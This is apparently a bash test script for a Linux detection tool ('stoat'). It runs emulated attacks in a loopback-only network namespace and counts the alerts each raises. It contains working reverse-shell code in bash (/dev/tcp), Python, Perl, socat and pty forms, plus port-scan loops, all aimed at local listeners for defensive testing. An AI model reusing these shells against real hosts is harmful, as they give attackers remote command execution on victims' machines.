#!/bin/bash
# Linux behaviours live (issue 13 part 3), one `stoat watch` per emulation so
# that each one's alerts are counted alone: reverse shells built four ways
# (bash /dev/tcp, a script that says nothing on its command line, Python and
# Perl that put a connected socket on 0/1/2 and start /bin/sh), a connect scan
# over 200 ports, the bash loop of /dev/tcp connects that forks a subshell per
# port (it once raised 1,025 keyword alerts, one per fork), and reverse shells
# started from a $(...) that execs twice and from a ( ... ) subshell, whose
# ancestry must name what each process became and go through the subshells;
# a pipeline whose two command lines a keyword rule matches (one alert per
# side, none on the link); reverse shells behind a pseudo-terminal (Python's
# pty.spawn, socat exec with pty started before it connects, script fed by a
# socket), each one critical alert, and terminals with no socket behind them
# (script, pty.spawn, a connected program running a command in the terminal
# it inherited), none.
# Everything runs in a network namespace made here (loopback only, no route
# out) against listeners and files made here. The watch loads stoat's rules
# and SigmaHQ's Linux rules (their keyword rules are what the forks flooded).
# Every alert of an emulation names this run's folder (in the event or the
# ancestry of the process) or is a correlation: others running on the host
# are not counted. Prints "figure NAME: N alerts (title xN, ...)" per
# emulation. Last line: "behaviours: P passed, F failed".
set -u
cd "$(dirname "$0")/../.."
STOAT=${STOAT:-build/stoat}
SIGMA=${SIGMA:-../shared/data/sigma/rules/linux}
PASS=0
FAIL=0
ok() { echo "ok   $*"; PASS=$((PASS + 1)); }
bad() { echo "FAIL $*"; FAIL=$((FAIL + 1)); }
finish() { echo "behaviours: $PASS passed, $FAIL failed"; [ "$FAIL" -eq 0 ]; exit $?; }

if [ "$(id -u)" -ne 0 ]; then
    echo "skip: the live behaviours need root (eBPF, network namespaces)"
    finish
fi
command -v python3 >/dev/null && command -v perl >/dev/null && command -v nc >/dev/null &&
    command -v socat >/dev/null && command -v script >/dev/null ||
    { bad "python3, perl, nc, socat and script are needed (scripts/install-deps.sh installs them)"; finish; }
# the counts compare stoat's rules with SigmaHQ's (the /dev/tcp keyword flood
# is a SigmaHQ rule's): without the shared data, skip as the SigmaHQ part does
[ -d "$SIGMA" ] || { echo "SKIP the live behaviours: SigmaHQ's Linux rules not found at $SIGMA (they need the shared data next to the repository)"; finish; }

T=$(mktemp -d /tmp/stoat-lbeh.XXXXXX)
NS=stoat-lbeh-$$
WPID=
cleanup() {
    [ -n "$WPID" ] && kill "$WPID" 2>/dev/null
    ip netns del "$NS" 2>/dev/null
    [ -n "${STOAT_KEEP:-}" ] || rm -rf "$T"
}
trap cleanup EXIT
ip netns add "$NS" || { bad "ip netns add"; finish; }
ip netns exec "$NS" ip link set lo up
N() { ip netns exec "$NS" "$@"; }
wait_listen() {   # wait_listen PORT
    for _ in $(seq 1 100); do
        N ss -Hltn "sport = :$1" 2>/dev/null | grep -q . && return
        sleep 0.1
    done
}
# the attacker's end: sends two commands, reads what comes back
listen() {   # listen PORT
    (printf 'id\nexit\n'; sleep 3) | N nc -l 127.0.0.1 "$1" >"$T/listener-$1.out" 2>&1 &
    LPID=$!
    wait_listen "$1"
}

# the helpers the emulations run: their command lines say nothing of a shell
cat >"$T/rs.sh" <<'EOF'
exec 5<>/dev/tcp/127.0.0.1/$1
sh <&5 >&5 2>&5
EOF
cat >"$T/rs.py" <<'EOF'
import os, socket, subprocess, sys
s = socket.create_connection(("127.0.0.1", int(sys.argv[1])))
for fd in (0, 1, 2):
    os.dup2(s.fileno(), fd)
subprocess.call(["/bin/sh", "-i"])
EOF
cat >"$T/rs.pl" <<'EOF'
use Socket;
socket(S, PF_INET, SOCK_STREAM, getprotobyname("tcp"));
connect(S, sockaddr_in($ARGV[0], inet_aton("127.0.0.1"))) or die;
open(STDIN, ">&S"); open(STDOUT, ">&S"); open(STDERR, ">&S");
exec("/bin/sh -i");
EOF
# a shell on a terminal that Python makes and relays to the socket
cat >"$T/rs_pty.py" <<'EOF'
import os, pty, socket, sys
s = socket.create_connection(("127.0.0.1", int(sys.argv[1])))
for fd in (0, 1, 2):
    os.dup2(s.fileno(), fd)
pty.spawn("/bin/sh")
EOF
# script started with the socket as its stdio: its shell is on script's terminal
cat >"$T/rs_script.py" <<'EOF'
import os, socket, sys
s = socket.create_connection(("127.0.0.1", int(sys.argv[1])))
for fd in (0, 1, 2):
    os.dup2(s.fileno(), fd)
os.execvp("script", ["script", "-qc", "/bin/sh", "/dev/null"])
EOF
# benign: a program with a connection open runs a shell command in the
# terminal it was started in (its own, inherited: no relay)
cat >"$T/conn_sh.py" <<'EOF'
import socket, subprocess, sys
s = socket.create_connection(("127.0.0.1", int(sys.argv[1])))
subprocess.call(["/bin/sh", "-c", "true"])
s.close()
EOF
# a keyword rule over both command lines of a pipeline
cat >"$T/kw.yml" <<'EOF'
title: Test Keyword In A Pipeline's Command Lines
id: 6f1c8a5e-2b7d-4c1e-9a55-0d3e8b7f1a21
status: test
description: behaviours.sh's own rule, a keyword that both sides of its pipelines name
logsource:
    product: linux
detection:
    keywords:
        - 'stoatpipekw'
    condition: keywords
level: medium
EOF
cat >"$T/scan.py" <<'EOF'
import socket
for p in range(20000, 20200):
    s = socket.socket()
    s.settimeout(1)
    s.connect_ex(("127.0.0.1", p))
    s.close()
EOF

# emulate NAME COMMAND...: a watch of its own around the command, run in the
# namespace through a script in $T (so the ancestry of what it starts names
# this run), then waits for the listener, if any
emulate() {
    local name=$1 out=$T/$1
    shift
    mkdir -p "$out"
    chown "$(id -u stoat 2>/dev/null || id -u nobody)" "$out"
    "$STOAT" watch --no-default-rules -r rules -r "$SIGMA" -r "$T/kw.yml" --format jsonl -o "$out/alerts.jsonl" \
        --record "$out/record.jsonl" 2>"$out/stderr" &
    WPID=$!
    # verifying the kernel programs takes 15 s and more on a loaded machine: wait up to 60 s
    for _ in $(seq 1 600); do
        grep -q "mode:" "$out/stderr" 2>/dev/null && break
        sleep 0.1
    done
    grep -q "mode: ebpf" "$out/stderr" || {
        bad "$name: stoat watch did not start in eBPF mode: $(cat "$out/stderr")"
        kill -9 "$WPID" 2>/dev/null # never left running into the next scenario
        return 1
    }
    printf '%s\n' "$*" >"$T/emu-$name.sh"
    N bash "$T/emu-$name.sh" >/dev/null 2>&1
    [ -n "${LPID:-}" ] && wait "$LPID" 2>/dev/null
    LPID=
    sleep 1
    kill -TERM "$WPID"
    wait "$WPID"
    WPID=
}

# check NAME PYTHON: assertions over the emulation's alerts; `ours` are its
# alerts, `n(title)` counts them by title, `one(title)` is the one alert
# with that title (None if not exactly one)
check() {
    python3 - "$T" "$1" "$2" <<'PY'
import json, os, sys
T, name, code = sys.argv[1], sys.argv[2], sys.argv[3]
ours = []
for line in open(os.path.join(T, name, "alerts.jsonl")):
    a = json.loads(line)
    if a["kind"] == "alert" and (T in line or a.get("correlation")):
        ours.append(a)
by = {}
for a in ours:
    by.setdefault(a["rule"]["title"], []).append(a)
def n(t):
    return len(by.get(t, []))
def one(t):
    return by[t][0] if n(t) == 1 else None
def cmds(a):
    # an interpreter found on PATH may name itself by its full path
    # (pyenv's shim execs the real python3): the program's base name is kept
    c = [p.get("command_line") or "" for p in (a or {}).get("ancestry", [])]
    return [x[x.rfind("/", 0, x.find(" ")) + 1:] if x.startswith("/") and " " in x and "python" in x.split(" ")[0] else x
            for x in c]
res = []
def check(what, cond, detail=""):
    res.append(("ok   " if cond else "FAIL ") + name + ": " + what + ("" if cond else "  -- " + str(detail)[:600]))
RS = "Shell Or Interpreter Started With A Network Socket As Its Input"
SCAN = "Port Scan - Failed Connects To Many Ports Of One Host"
exec(code)
print("figure %s: %d alerts (%s)" % (name, len(ours), ", ".join("%s x%d" % (t, len(v)) for t, v in sorted(by.items()))))
print("\n".join(res))
PY
}
run_check() {   # run_check NAME PYTHON
    local r
    r=$(check "$1" "$2")
    echo "$r"
    PASS=$((PASS + $(echo "$r" | grep -c '^ok ')))
    FAIL=$((FAIL + $(echo "$r" | grep -c '^FAIL')))
}

# 1. reverse shells, four ways; each is one critical alert on the shell
listen 14441
emulate revshell_bash "bash -c 'bash -i >& /dev/tcp/127.0.0.1/14441 0>&1'"
run_check revshell_bash '
a = one(RS)
check("one reverse-shell alert on bash -i, fds 0,1,2, peer 127.0.0.1:14441, critical",
      a and a["level"] == "critical" and a["event"]["Image"].endswith("/bash") and a["event"]["StdioFds"] == "0,1,2"
      and a["event"]["DestinationPort"] == "14441", by.get(RS))
check("its ancestry names the bash -c that built it", a and any("/dev/tcp/127.0.0.1/14441" in (c or "") for c in cmds(a)), cmds(a))
'
listen 14442
emulate revshell_script "bash $T/rs.sh 14442"
run_check revshell_script '
a = one(RS)
check("one reverse-shell alert on sh from a script whose command line says nothing",
      a and a["event"]["Image"].endswith("sh") and a["event"]["StdioFds"] == "0,1,2", by.get(RS))
check("its ancestry: sh < bash rs.sh", a and cmds(a)[:2] == ["sh", "bash %s/rs.sh 14442" % T], cmds(a))
'
listen 14443
emulate revshell_python "python3 $T/rs.py 14443"
run_check revshell_python '
a = one(RS)
check("one reverse-shell alert on /bin/sh -i started by Python with the socket as stdio",
      a and a["event"]["StdioFds"] == "0,1,2" and a["event"]["DestinationPort"] == "14443", by.get(RS))
check("its ancestry: /bin/sh -i < python3 rs.py", a and cmds(a)[:2] == ["/bin/sh -i", "python3 %s/rs.py 14443" % T], cmds(a))
'
listen 14444
emulate revshell_perl "perl $T/rs.pl 14444"
run_check revshell_perl '
a = one(RS)
check("one reverse-shell alert on the sh Perl exec-ed into (stdio the socket)",
      a and a["event"]["StdioFds"] == "0,1,2" and a["event"]["DestinationPort"] == "14444", by.get(RS))
check("its ancestry shows the program the process became (sh, not perl), then the script",
      a and a["ancestry"][0]["image"].endswith("sh") and cmds(a)[1:2] == ["bash %s/emu-revshell_perl.sh" % T], cmds(a))
'

# 2. ancestry through subshells: $( ) whose subshell execs bash, which execs
# python3; a ( ... ) subshell that runs two commands (it forks, the child execs)
listen 14445
OUTER="y=\$(bash -c 'exec python3 $T/rs.py 14445')"
emulate ancestry_exec "$OUTER"
run_check ancestry_exec '
a = one(RS)
c = cmds(a)
check("the $() subshell shows as the python3 it became, under the script",
      a and c[:3] == ["/bin/sh -i", "python3 %s/rs.py 14445" % T, "bash %s/emu-ancestry_exec.sh" % T], c)
'
listen 14446
emulate ancestry_subshell "( cd $T && python3 $T/rs.py 14446; true )"
run_check ancestry_subshell '
a = one(RS)
anc = (a or {}).get("ancestry", [])
c = cmds(a)
check("ancestry goes through the ( ) subshell to the script: sh < python3 < bash subshell < bash script",
      a and len(anc) >= 4 and c[1] == "python3 %s/rs.py 14446" % T and anc[2]["image"].endswith("/bash")
      and c[2] == c[3] == "bash %s/emu-ancestry_subshell.sh" % T and anc[2]["guid"] != anc[3]["guid"], anc[:5])
'

# 3. a connect scan over 200 ports: one scan alert, no per-connect flood
emulate scan_python "python3 $T/scan.py"
run_check scan_python '
a = one(SCAN)
check("one port-scan alert (high) for 200 refused ports of 127.0.0.1",
      a and a["level"] == "high" and a["correlation"]["value"] >= 20, by.get(SCAN))
check("no other alert floods (at most 5 in all)", len(ours) <= 5, len(ours))
'

# 4. the bash loop of /dev/tcp connects, a subshell per port: it raised one
# keyword alert per fork; now the scan alert, and keyword alerts only for the
# programs that ran a command line naming /dev/tcp (bash -c and no other)
# (the comment names this run: the forks' alerts, before, named it only there)
emulate scan_bash_loop "bash -c 'for p in \$(seq 30000 31023); do (echo >/dev/tcp/127.0.0.1/\$p) 2>/dev/null; done # $T'"
run_check scan_bash_loop '
check("one port-scan alert for the loop", n(SCAN) == 1, by.get(SCAN))
forks = [a for a in ours if a["event"].get("EventID") == "1001"]
check("no alert on a fork event (%d)" % len(forks), not forks, [a["rule"]["title"] for a in forks[:3]])
check("at most 10 alerts in all for 1,024 connects (%d)" % len(ours), len(ours) <= 10, sorted(by))
'

# 5. pipelines: a keyword that the reader's command line names (the reader
# exec'd first: the writer's exec brings the link, a pipeline event) and one
# that the writer's names (the reader's exec names its writer): one alert on
# each process, none on a link, which once repeated the command lines. The
# side that must come second waits on a fifo with a builtin (no exec).
mkfifo "$T/delay"
emulate pipeline_keywords "(exec 3<>$T/delay; read -t 0.5 -u 3 x; exec /bin/echo x) | sh -c 'read l; : stoatpipekw-reader'
/bin/echo stoatpipekw-writer | (exec 3<>$T/delay; read -t 0.5 -u 3 x; exec cat >/dev/null)"
run_check pipeline_keywords '
K = "Test Keyword In A Pipeline\x27s Command Lines"
ev = [a["event"] for a in by.get(K, [])]
def on(word):
    return [e for e in ev if word in e.get("CommandLine", "")]
rec = [json.loads(l) for l in open(os.path.join(T, name, "record.jsonl"))]
check("the reader sh exec-ed first: its link came as a pipeline event (1004) from echo",
      [r for r in rec if r.get("EventID") == "1004" and r.get("StdinFromImage", "").endswith("/echo")
       and r.get("Image", "").endswith("sh")], [r for r in rec if r.get("EventID") == "1004"][:3])
check("the writer echo exec-ed first: the reader cat exec names it",
      [r for r in rec if r.get("EventID") == "1" and r.get("Image", "").endswith("/cat")
       and r.get("StdinFromImage", "").endswith("/echo")])
check("the reader keyword: one alert, on the reader sh (exec)",
      [e.get("EventID") for e in on("stoatpipekw-reader")] == ["1"],
      [(e.get("EventID"), e.get("Image"), e.get("CommandLine")) for e in ev])
check("the writer keyword: one alert, on the writer echo (exec)",
      [e.get("EventID") for e in on("stoatpipekw-writer")] == ["1"] and on("stoatpipekw-writer")[0]["Image"].endswith("/echo"),
      [(e.get("EventID"), e.get("Image"), e.get("CommandLine")) for e in ev])
check("two alerts in all for the rule, none on a link (%d)" % len(ev),
      len(ev) == 2 and not [e for e in ev if e.get("EventID") == "1004" or "StdinFromImage" in e],
      [(e.get("EventID"), e.get("Image"), e.get("StdinFromImage")) for e in ev])
'

# 6. reverse shells behind a pseudo-terminal: the shell's stdio is the
# terminal, the socket is its maker's; one critical alert on the shell each
listen 14447
emulate revshell_pty_python "python3 $T/rs_pty.py 14447"
run_check revshell_pty_python '
a = one(RS)
check("one reverse-shell alert on the /bin/sh that pty.spawn started, critical, relayed by python to :14447",
      a and a["level"] == "critical" and a["event"].get("EventID") == "1005" and a["event"]["Image"].endswith("sh")
      and "python" in a["event"].get("RelayImage", "") and a["event"].get("DestinationPort") == "14447",
      by.get(RS))
check("its ancestry: /bin/sh < python3 rs_pty.py", a and cmds(a)[:2] == ["/bin/sh", "python3 %s/rs_pty.py 14447" % T],
      cmds(a))
'
listen 14448
emulate revshell_pty_socat "socat exec:'bash -li',pty,stderr,setsid tcp:127.0.0.1:14448"
run_check revshell_pty_socat '
a = one(RS)
check("one reverse-shell alert on bash -li, started by socat before it connected, critical",
      a and a["level"] == "critical" and a["event"].get("EventID") == "1005" and a["event"]["Image"].endswith("/bash")
      and a["event"].get("RelayImage", "").endswith("/socat") and a["event"].get("DestinationPort") == "14448"
      and a["event"].get("Initiated") == "true", by.get(RS))
check("the relayed-terminal event repeats no command line (a keyword rule on socat matches socat alone)",
      not [x for x in ours if x["event"].get("EventID") == "1005" and "CommandLine" in x["event"]],
      [x["rule"]["title"] for x in ours if x["event"].get("EventID") == "1005"])
'
listen 14449
emulate revshell_pty_script "python3 $T/rs_script.py 14449"
run_check revshell_pty_script '
a = one(RS)
check("one reverse-shell alert on the shell script -qc started on its terminal, critical",
      a and a["level"] == "critical" and a["event"].get("EventID") == "1005"
      and a["event"].get("RelayImage", "").endswith("/script") and a["event"].get("DestinationPort") == "14449",
      by.get(RS))
'
listen 14450
emulate pty_benign "script -qc true /dev/null </dev/null
python3 -c 'import pty; pty.spawn([\"/bin/true\"])' </dev/null
script -qc 'python3 $T/conn_sh.py 14450' /dev/null </dev/null"
run_check pty_benign '
check("no reverse-shell alert for terminals with no socket behind them (%d)" % n(RS), n(RS) == 0, by.get(RS))
check("no relayed-terminal alert at all", not [a for a in ours if a["event"].get("EventID") == "1005"],
      [a["rule"]["title"] for a in ours if a["event"].get("EventID") == "1005"])
'
finish
